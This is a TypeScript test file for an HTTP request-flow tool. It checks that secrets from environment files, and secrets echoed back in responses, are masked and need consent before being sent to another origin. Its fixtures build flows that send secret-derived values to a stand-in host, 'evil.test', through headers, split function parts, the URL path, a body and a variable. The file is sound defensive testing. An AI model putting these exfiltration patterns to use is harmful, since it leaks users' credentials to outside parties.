import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { test } from 'node:test';
import * as protocol from '../../server/src/protocol';
import { flowText } from '../support/flows';
import { flowLens, listen, run, start } from '../support/liveRun';
import { privateFile, secret, startRefusing } from '../support/refusingClient';

/** A node that calls another origin than the one that has answered, with whatever a test puts in. */
function withLeak(parts: object, url = 'https://evil.test', node: object = {}): (text: string) => string {
  return (text) => {
    const flow = JSON.parse(text);
    flow.endpoints.evil = { url, elementValidation: 'HTTP_RESPONSE_CODE', method: 'POST', ...parts };
    flow.nodes.leak = { ...flow.nodes['get-order'], endpoint: 'evil', ...node };
    return JSON.stringify(flow);
  };
}

const setToken = { type: 'set-variable', variable: 't', value: 'x[[orders:id]]', next: 'end' };

for (const [how, leak] of [
  ['in a field of any name', withLeak({ headers: { 'X-Data': '[[orders:id]]' } })],
  ['as parts, by functions', withLeak({ headers: { 'X-Data': '[[left:9:[[orders:id]]]][[right:9:[[orders:id]]]]' } })],
  ['in the path', withLeak({}, 'https://evil.test/[[orders:id]]')],
  ['in a body', withLeak({}, undefined, { body: { note: '[[get-order:id]]' } })],
  [
    'through a variable',
    (text: string) => {
      const flow = JSON.parse(withLeak({ headers: { 'X-Data': '[[t]]' } })(text));
      flow.nodes.set = setToken;
      return JSON.stringify(flow);
    },
  ],
] as const) {
  test(`a secret that an answer repeats asks like a secret where it is sent on ${how}`, async (context) => {
    const { url } = await listen(context, (request, response) => {
      response.setHeader('content-type', 'application/json').end(JSON.stringify({ id: request.headers['x-key'] }));
    });
    const { server, asked } = await startRefusing(context, { files: { 'http-client.private.env.json': privateFile } });
    await server.open('a.flow.json', leak(flowText({ url, endpoint: { headers: { 'X-Key': '{{KEY}}' } } })));
    await run(server);
    await assert.rejects(run(server, 'leak'), /Nothing was sent: Send POST/);
    // The first question is about the method. With a yes to that, the next one is about the secret.
    server.connection.onRequest(protocol.consent, ({ message }: protocol.ConsentParams) => {
      asked.push(message);
      return message.startsWith('Send POST');
    });
    await assert.rejects(run(server, 'leak'), (error: Error) => !error.message.includes(secret));
    assert.match(
      asked.at(-1) ?? '',
      /^Send \[\[(?:orders|get-order):id\]\], which http:\/\/127\.0\.0\.1:\d+ has given, to https:\/\/evil\.test\?$/,
    );
  });
}

test('what one run has hidden stays hidden where another node gets it back', async (context) => {
  let echo = '';
  const { url } = await listen(context, (request, response) => {
    echo ||= `${request.headers['x-key']}`;
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ echo }));
  });
  const server = await start(context, {
    capabilities: { ...flowLens, experimental: { flowLens: ['runState', 'consent', 'secret'] } },
    prepare: (connection) => connection.onRequest(protocol.secret, () => secret),
  });
  const flow = JSON.parse(flowText({ url, endpoint: { headers: { 'X-Key': '{{KEY}}' } } }));
  flow.endpoints.plain = { url, elementValidation: 'HTTP_RESPONSE_CODE' };
  flow.nodes.later = { ...flow.nodes['get-order'], endpoint: 'plain' };
  await server.open('a.flow.json', JSON.stringify(flow));
  await run(server);
  const later = await run(server, 'later');
  assert.equal(echo, secret);
  assert.equal(later.response?.body, '{"echo":"••••"}');
});

for (const [how, answer] of [
  [
    'breaks off',
    (response: ServerResponse) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': 1000 });
      response.write('{"token":"tok-en-of-theirs",', () => response.destroy());
    },
  ],
  [
    'is not well-formed',
    (response: ServerResponse) => {
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"tok-en-of-theirs"');
    },
  ],
] as const) {
  test(`a login whose answer ${how} shows nothing of it`, async (context) => {
    const { url } = await listen(context, (_request, response) => answer(response));
    const { server } = await startRefusing(context);
    const headers = { Authorization: 'Bearer [[orders:token]]' };
    const flow = JSON.parse(flowText({ url }));
    flow.endpoints.next = { url, elementValidation: 'HTTP_RESPONSE_CODE', headers };
    await server.open('a.flow.json', JSON.stringify(flow));
    const result = await run(server);
    assert.equal(result.response?.body, '');
    assert.match(result.notes.join(), /the content is not shown/);
    assert.equal(JSON.stringify(result).includes('tok-en'), false);
  });
}

test('more secrets than can be hidden refuse the run, at once', async (context) => {
  const { url, seen } = await listen(context, (_request, response) => response.end());
  const many = Object.fromEntries(Array.from({ length: 150_000 }, (_, at) => [`K${at}`, `secret-${at}`]));
  const files = { 'http-client.private.env.json': JSON.stringify({ dev: many }) };
  const { server } = await startRefusing(context, { files });
  await server.open('a.flow.json', flowText({ url }));
  await assert.rejects(run(server), /Nothing was sent: There are 150000 secrets, which are more than can be hidden/);
  assert.deepEqual(seen, []);
});
